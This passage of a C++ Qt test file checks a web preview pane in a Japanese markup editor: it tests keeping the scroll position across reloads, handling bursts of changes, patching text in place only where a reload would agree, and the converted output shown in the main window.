    QTRY_VERIFY2(qAbs(topOf(100) - middle) < 1, qPrintable(QString::number(topOf(100) - middle)));

    // The user double-clicks a paragraph: the line that made it.
    QSignalSpy clicked(&page.pane, &PreviewView::lineDoubleClicked);
    QTRY_VERIFY(page.view()->focusProxy());
    const int y = qRound(topOf(104) + 10);
    QTest::mouseDClick(page.view()->focusProxy(), Qt::LeftButton, {}, QPoint(20, y));
    QTRY_COMPARE(clicked.size(), 1);
    QCOMPARE(clicked.first().first().toInt(), 105);
}

void WebPreviewTest::refreshOfTheSamePageKeepsScrollPosition()
{
    ShownPage page;
    QVERIFY(page.load(longPage(300)));
    runJs(page.view(), QStringLiteral("window.scrollTo(0, 600)"));
    QTRY_COMPARE(page.scrollY(), 600);

    PaneWatch watch(page.pane);
    QVERIFY(page.load(longPage(300, QStringLiteral("<b>追加</b>"))));
    QVERIFY(page.text().contains(QStringLiteral("追加")));
    QCOMPARE(page.scrollY(), 600);
    for (int y : std::as_const(watch.visibleScroll))
        QCOMPARE(y, 600);
}

// Changes that each need a load, while loads are running: one load at a time, only the newest
// waiting, and each version shown only once it is at the place of the one before.
void WebPreviewTest::burstOfChangesShowsOnlyFinishedVersionsInPlace()
{
    ShownPage page;
    QVERIFY(page.load(longPage(1500)));
    runJs(page.view(), QStringLiteral("window.scrollTo(0, 1500)"));
    QTRY_COMPARE(page.scrollY(), 1500);

    PaneWatch watch(page.pane);
    QList<int> scrollWhenShown;
    connect(&page.pane, &PreviewView::loadFinished, this, [&] { scrollWhenShown << qRound(page.view()->page()->scrollPosition().y()); });
    const int loadsBefore = page.pane.loadsStarted();
    int version = 0;
    const auto change = [&] {
        ++version;
        QVERIFY(writeBytes(page.path, longPage(1500, QStringLiteral("<b>版%1</b>").arg(version))));
        page.pane.navigate(page.path);
    };
    // Three changes whenever a load starts, fifteen in all.
    for (QWebEngineView *view : page.pane.widget()->findChildren<QWebEngineView *>())
        connect(view->page(), &QWebEnginePage::loadStarted, this, [&] {
            for (int i = 0; i < 3 && version < 15; ++i)
                change();
        });
    change();
    QTRY_VERIFY_WITH_TIMEOUT(page.text().contains(QStringLiteral("版15")) && watch.loading == 0, 60000);
    QCOMPARE(watch.mostLoading, 1);
    QVERIFY2(page.pane.loadsStarted() - loadsBefore <= 7, qPrintable(QString::number(page.pane.loadsStarted() - loadsBefore)));
    QCOMPARE(page.scrollY(), 1500);
    QVERIFY(!scrollWhenShown.isEmpty());
    for (int y : std::as_const(scrollWhenShown))
        QCOMPARE(y, 1500);
    for (int y : std::as_const(watch.visibleScroll))
        QCOMPARE(y, 1500);
}

// A text-only change is patched into the shown page without a load where the result is what a
// load of that version shows; otherwise the version is loaded.
void WebPreviewTest::textChangesArePatchedOnlyWhereAReloadWouldAgree()
{
    ShownPage page, fresh;
    const auto change = [&](const QByteArray &bytes) {
        const int loads = page.pane.loadsStarted();
        const QString html = QStringLiteral("document.documentElement.outerHTML");
        if (!page.load(bytes) || !fresh.load(bytes) || runJs(page.view(), html) != runJs(fresh.view(), html))
            return -1;
        return page.pane.loadsStarted() - loads;
    };
    const auto lines = [](const QString &text, const QString &around = QStringLiteral("p")) {
        return sjis(QStringLiteral("<html><body>\r\n<%2>\r\n%1\r\nline &amp; more\r\n</%2>\r\n</body></html>\r\n").arg(text, around));
    };
    QVERIFY(change(lines(QStringLiteral("最初"))) > 0);
    QCOMPARE(change(lines(QStringLiteral("二番目&lt;"))), 0);
    QCOMPARE(change(lines(QStringLiteral("三番目\r\n四行目"))), 0);
    // The markers after the split are renumbered as a new load would number them.
    const QString markers = QStringLiteral(
        "(() => { const it = document.createNodeIterator(document, NodeFilter.SHOW_COMMENT), r = [];"
        " for (let c = it.nextNode(); c; c = it.nextNode()) r.push(c.data); return r.join(); })()");
    QCOMPARE(runJs(page.view(), markers).toString(), runJs(fresh.view(), markers).toString());
    // Text in a table is moved before it by the parser: only a load agrees.
    QVERIFY(change(lines(QStringLiteral("表の前"), QStringLiteral("table"))) > 0);
    QCOMPARE(change(lines(QStringLiteral("表の後"), QStringLiteral("table"))), 1);

    // One run of text among tags, also on the page's last line; text the parser moves out of its
    // table is patched only where it moves as before.
    const auto runs = [](const QString &cell, const QString &beside, const QString &alone, const QString &last) {
        return sjis(QStringLiteral("<html><body>\r\n<table><tr><td>%1</td></tr></table>\r\n<table><tr><td>x</td>%2</tr></table>\r\n"
                                   "<table><tr>%3</tr></table>\r\n<p><b>太字</b>と%4\r\n").arg(cell, beside, alone, last));
    };
    QVERIFY(change(runs(QStringLiteral("升"), QStringLiteral("外"), QStringLiteral("離"), QStringLiteral("本文"))) > 0);
    QCOMPARE(change(runs(QStringLiteral("升目"), QStringLiteral("外"), QStringLiteral("離"), QStringLiteral("本文"))), 0);
    QCOMPARE(change(runs(QStringLiteral("升目"), QStringLiteral("外"), QStringLiteral("離"), QStringLiteral("本文です"))), 0);
    QCOMPARE(change(runs(QStringLiteral("升目"), QStringLiteral("外へ"), QStringLiteral("離"), QStringLiteral("本文です"))), 1);
    QCOMPARE(change(runs(QStringLiteral("升目"), QStringLiteral("外へ"), QStringLiteral("離れ"), QStringLiteral("本文です"))), 0);
    // Blank text stays in the table, so turning text blank needs a load.
    QCOMPARE(change(runs(QStringLiteral("升目"), QStringLiteral("外へ"), QStringLiteral(" "), QStringLiteral("本文です"))), 1);

    // A page with a script is always loaded again, so what the script did is done again.
    const QByteArray scripted = sjis(QStringLiteral("<body>\r\n<script>document.write('書いた')</script>\r\n文\r\n</body>\r\n"));
    QVERIFY(change(scripted) > 0);
    QCOMPARE(change(QByteArray(scripted).replace(sjis(QStringLiteral("文")), sjis(QStringLiteral("文章")))), 1);
}

void WebPreviewTest::mainWindowTitleFollowsTheRealPane()
{
    QTemporaryDir dir;
    QVERIFY(makeProgramFolder(dir.path()));
    HenkanMod henkan;
    ScriptedMessageBoxes boxes;
    ScriptedWindows windows;
    MainForm form(henkan, dir.path(), boxes, std::make_unique<ScriptedDialogs>(), windows,
                  [](QWidget *parent) { return new WebPreview(parent); });
    QVERIFY(form.Form_Load());
    form.show();
    QTRY_COMPARE_WITH_TIMEOUT(form.windowTitle(), QStringLiteral("QRN - [QRNドキュメント]"), 20000);

    // What the pane shows is the converted editor text.
    auto *pane = static_cast<WebPreview *>(form.Brw);
    form.MainText->setText(QStringLiteral("＜ページ＞＜全体　背景色＝「白」＞見出しの文＜全体終わり＞＜ページ終わり＞"));
    QTRY_COMPARE_WITH_TIMEOUT(runJs(pane->view(), QStringLiteral("document.body.innerText")).toString(),
                              QStringLiteral("見出しの文"), 20000);
    QCOMPARE(runJs(pane->view(), QStringLiteral("document.body.getAttribute('bgcolor')")).toString(),
             QStringLiteral("white"));

    // A page that declares UTF-8 is written in UTF-8, and shown as a browser shows the export.
    form.MainText->setText(QStringLiteral("＜ページ＞＜ヘッド＞＜メタ情報　文字コード＝「utf-8」＞＜ヘッド終わり＞"
                                          "＜全体＞波〜と絵😀＜全体終わり＞＜ページ終わり＞"));
    QTRY_COMPARE_WITH_TIMEOUT(runJs(pane->view(), QStringLiteral("document.body.innerText")).toString(),
                              QStringLiteral("波〜と絵😀"), 20000);
    QCOMPARE(runJs(pane->view(), QStringLiteral("document.characterSet")).toString(), QStringLiteral("UTF-8"));
    QVERIFY(boxes.calls.isEmpty());
}

int main(int argc, char *argv[])
{
    QCoreApplication::setAttribute(Qt::AA_ShareOpenGLContexts);
    registerLocalPageScheme();
    QApplication app(argc, argv);
    WebPreviewTest test;
    return QTest::qExec(&test, argc, argv);
}

#include "WebPreviewTest.moc"
